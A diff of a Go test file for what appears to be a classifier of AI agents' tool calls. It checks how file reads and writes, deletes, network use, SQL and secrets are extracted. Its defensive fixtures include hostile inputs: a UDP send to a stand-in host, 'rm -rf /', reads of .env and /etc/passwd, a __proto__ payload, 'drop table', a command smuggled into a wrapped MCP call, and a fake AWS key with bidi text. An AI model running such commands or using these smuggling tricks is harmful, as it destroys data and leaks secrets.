@@ -76,6 +76,7 @@ var toolTests = []struct{ tool, arguments, category, want string }{
 	{"Bash", `{"command":"cat x > /dev/udp/E.example/53"}`, "network", "cat x\n- r /w/x\n@ udp://e.example:53 e.example"},
 	{"Bash", `{"command":5}`, "exec", "# command is neither text nor list"},
 	{"acme", `{"a":1,"a":2}`, "unknown", "# arguments are not one strict JSON object"},
+	{"acme", `{"a":[{"__proto__":{"path":"/etc/passwd"}}]}`, "unknown", "- w ^/etc/passwd system\n# an argument is named __proto__, whose members some agents take for arguments"},
 	{"acme", `[1]`, "unknown", "# arguments are not one strict JSON object"},
 	{"acme", `{}`, "unknown", ""},
 	{"computer", `{"action":"screenshot"}`, "read", ""},
@@ -94,6 +95,29 @@ var toolTests = []struct{ tool, arguments, category, want string }{
 	{"job_kill", `{"shell_id":"1"}`, "exec", ""},
 	{"StrReplace", `{"path":"a","old_string":"x","new_string":"y"}`, "write", "- w /w/a"},
 	{"Delete", `{"path":"a"}`, "delete", "- d /w/a"},
+	{"executeBash", `{"command":"rm a","path":"sub"}`, "exec", "rm a\n- d /w/sub/a"},
+	{"terminal", `{"command":"rm a","cd":"sub"}`, "exec", "rm a\n- d /w/sub/a"},
+	{"shell_exec", `{"id":"main","exec_dir":"/tmp","command":"rm a"}`, "exec", "rm a\n- d ^/tmp/a"},
+	{"fsWrite", `{"path":"a.md","text":"rm -rf /"}`, "write", "- w /w/a.md"},
+	{"fs_write", `{"command":"create","path":"/etc/x","file_text":"y"}`, "write", "- w ^/etc/x system"},
+	{"fs_read", `{"operations":[{"mode":"Line","path":".env"}]}`, "read", "- r /w/.env secret"},
+	{"view_file", `{"AbsolutePath":"/w/.env","StartLine":0}`, "read", "- r /w/.env secret"},
+	{"replace_file_content", `{"TargetFile":"/etc/x","ReplacementContent":"y"}`, "write", "- w ^/etc/x system"},
+	{"find_path", `{"glob":"**/.env*"}`, "read", "- r /w/**/.env* secret"},
+	{"move_path", `{"source_path":"a","destination_path":"/tmp/b"}`, "write", "- w ^/tmp/b\n- d /w/a"},
+	{"copy_path", `{"source_path":"/etc/x","destination_path":"b"}`, "write", "- w /w/b\n- r ^/etc/x system"},
+	{"delete_path", `{"path":"a"}`, "delete", "- d /w/a"},
+	{"read_url_content", `{"Url":"https://a.example/"}`, "network", "@ https://a.example/ a.example"},
+	{"execute_ipython_cell", `{"code":"x()"}`, "exec", ""},
+	{"use_mcp_tool", `{"server_name":"db","tool_name":"query","arguments":"{\"sql\":\"drop table x\"}"}`, "database", "= drop table x"},
+	{"use_mcp_tool", `{"server_name":"db","tool_name":"query","arguments":{"sql":"drop table x"}}`, "database", "= drop table x"},
+	{"use_mcp_tool", `{"server_name":"fs","tool_name":"read_file","arguments":"{\"path\":\".env\"}"}`, "read", "- r /w/.env secret"},
+	{"use_mcp_tool", `{"server_name":"fs","tool_name":"list_allowed_directories"}`, "read", ""},
+	{"use_mcp_tool", `{"server_name":"fs","tool_name":"read_file","arguments":"rm a"}`, "read", "# arguments are not one strict JSON object"},
+	{"use_mcp_tool", `{"server_name":"fs","tool_name":"read_file","arguments":"{}","command":"rm a"}`, "unknown", "rm a\n- d /w/a"},
+	{"use_mcp_tool", `{"server_name":"fs","tool_name":"delete_all__read_file","arguments":"{}"}`, "unknown", ""},
+	{"use_mcp_tool", `{"server_name":"fs","arguments":"{}"}`, "unknown", ""},
+	{"mcp__fs__use_mcp_tool", `{"server_name":"fs","tool_name":"read_file","arguments":"{}"}`, "unknown", ""},
 }
 
 func TestTools(t *testing.T) {
@@ -107,6 +131,17 @@ func TestTools(t *testing.T) {
 				t.Errorf("facts (-want +got):\n%s", diff)
 			}
 		})
+	}
+}
+
+func TestTextInsideOfAWrappedCall(t *testing.T) {
+	arguments := `{"server_name":"fs","tool_name":"read_file","arguments":"{\"x\":\"a\\u202ey \\u0041KIAABCDEFGHIJKLMNOP\"}"}`
+	f := Extract(context.Background(), toolCall("use_mcp_tool", arguments), patient)
+	if diff := cmp.Diff([]string{"bidi"}, f.SuspiciousText); diff != "" {
+		t.Error(diff)
+	}
+	if diff := cmp.Diff([]Secret{{Kind: "aws_access_key", Pointer: "/arguments"}}, f.Secrets); diff != "" {
+		t.Error(diff)
 	}
 }
 
